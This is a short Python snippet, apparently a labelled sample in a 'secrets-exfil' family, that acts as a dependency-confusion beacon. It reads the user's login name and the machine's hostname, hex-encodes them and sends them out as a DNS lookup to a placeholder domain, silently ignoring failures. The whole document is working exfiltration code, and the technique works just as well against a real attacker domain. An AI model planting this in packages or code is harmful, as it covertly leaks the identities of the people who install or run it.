# family: secrets-exfil
# dependency-confusion beacon: user and host name sent as a DNS lookup
import getpass
import socket

user = getpass.getuser()
host = socket.gethostname()
label = (user + "." + host).encode().hex()[:60]
try:
    socket.gethostbyname(label + ".b.example.invalid")
except OSError:
    pass
